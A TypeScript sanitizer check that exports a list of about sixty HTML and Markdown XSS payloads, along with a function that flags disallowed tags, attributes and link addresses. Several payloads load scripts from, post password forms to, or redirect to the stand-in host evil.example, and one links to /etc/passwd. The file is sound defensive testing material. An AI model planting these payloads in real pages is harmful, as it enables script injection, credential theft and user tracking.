import { Parser } from "htmlparser2";

/** Ways to make a page run a script or reach out, through HTML or Markdown. */
export const HOSTILE_MARKUP: readonly string[] = [
  "<script>alert(1)</script>",
  "<ScRiPt src=//evil.example/x.js></sCrIpT>",
  "<scr<script>ipt>alert(1)</scr</script>ipt>",
  "<img src=x onerror=alert(1)>",
  "<img/src=`x`onerror=alert(1)>",
  "<p onclick='alert(1)' onmouseover=alert(1)>x</p>",
  "<a href='javascript:alert(1)'>x</a>",
  "<a href='JaVaScRiPt:alert(1)'>x</a>",
  "<a href='java\nscript:alert(1)'>x</a>",
  "<a href='java&#x09;script:alert(1)'>x</a>",
  "<a href='&#106;avascript:alert(1)'>x</a>",
  "<a href=' \u0001javascript:alert(1)'>x</a>",
  "<a href='data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=='>x</a>",
  "<a href='vbscript:msgbox(1)'>x</a>",
  "<a href='//evil.example/'>x</a>",
  "<a href='\\\\evil.example/'>x</a>",
  "<a href='/admin/delete'>x</a>",
  "<a href='https://town.example@evil.example/'>x</a>",
  '<a href="https://a.example/" onclick="alert(1)" style="position:fixed">x</a>',
  '<a href="https://a.example/&quot;onmouseover=&quot;alert(1)">x</a>',
  "<svg onload=alert(1)><script>alert(1)</script></svg>",
  "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
  "<svg><style><img src=x onerror=alert(1)></style></svg>",
  "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
  "<style>body{background:url(//evil.example)}</style>",
  "<p style='background:url(javascript:alert(1))'>x</p>",
  "<iframe src='javascript:alert(1)'></iframe>",
  "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
  "<object data='data:text/html,x'></object><embed src='//evil.example'>",
  "<form action='//evil.example'><input name=password><button>Go</button></form>",
  "<meta http-equiv=refresh content='0;url=//evil.example'><base href='//evil.example/'>",
  "<link rel=stylesheet href='//evil.example/x.css'>",
  "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
  "<textarea><script>alert(1)</script></textarea>",
  "<title><img src=x onerror=alert(1)></title>",
  "<xmp><img src=x onerror=alert(1)></xmp>",
  "<plaintext><img src=x onerror=alert(1)>",
  "<template><img src=x onerror=alert(1)></template>",
  "<!--><img src=x onerror=alert(1)>-->",
  "<![CDATA[<img src=x onerror=alert(1)>]]>",
  "<?xml version='1.0'?><img src=x onerror=alert(1)>",
  "<img src='x' onerror='alert(1)'",
  "<p class='btn mention admin-banner'>x</p>",
  "<video><source onerror=alert(1)></video><audio src=x onerror=alert(1)>",
  "<details open ontoggle=alert(1)>x</details>",
  "<p id=login name=login>x</p>",
  "&lt;script&gt;alert(1)&lt;/script&gt;",
  "[x](javascript:alert(1))",
  "[x](JAVASCRIPT:alert(1))",
  "[x](java&#115;cript:alert(1))",
  "[x](data:text/html,<script>alert(1)</script>)",
  "[x](//evil.example)",
  "[x](file:///etc/passwd)",
  "[x]: javascript:alert(1)\n\n[x]",
  "<javascript:alert(1)>",
  "![x](javascript:alert(1))",
  "![x](https://evil.example/pixel.gif)",
  '![x" onerror="alert(1)](https://evil.example/pixel.gif \'y" onload="alert(1)\')',
  "[x](https://a.example 'y\" onmouseover=\"alert(1)')",
  '```"><script>alert(1)</script>\nx\n```',
  "[![a](https://evil.example/1.gif)](https://b.example)",
];

const TAGS = new Set(
  "p span br a del s pre blockquote code b strong u i em ul ol li hr h3 h4 h5 h6".split(" "),
);
const ATTRIBUTES = new Set(["href", "rel", "class", "start", "title"]);
const CLASSES = new Set(["mention", "hashtag", "invisible", "ellipsis"]);

/** Over the web, to a host that nothing before an @ disguises; what follows the host may hold one. */
const SAFE_ADDRESS = /^(?:https?:\/\/[^/?#\\@]*(?:[/?#\\]|$)|mailto:)/u;

function attributeFaults(tag: string, name: string, value: string): string[] {
  if (!ATTRIBUTES.has(name)) return [`attribute ${name} on <${tag}>`];
  if (name === "href" && !SAFE_ADDRESS.test(value)) return [`address ${value}`];
  if (name === "class" && !value.split(" ").every((one) => CLASSES.has(one))) return [value];
  return [];
}

/** Everything in `html` that a safe page must not hold; empty when it is safe. */
export function faultsIn(html: string): string[] {
  const faults: string[] = [];
  const parser = new Parser({
    onopentag(tag, attributes) {
      if (!TAGS.has(tag)) faults.push(`element <${tag}>`);
      if (tag === "a" && attributes["rel"] !== "nofollow noopener ugc") faults.push("bare link");
      for (const [name, value] of Object.entries(attributes)) {
        faults.push(...attributeFaults(tag, name, value));
      }
    },
    oncomment: () => faults.push("comment"),
    onprocessinginstruction: () => faults.push("declaration"),
  });
  parser.end(html);
  return faults;
}
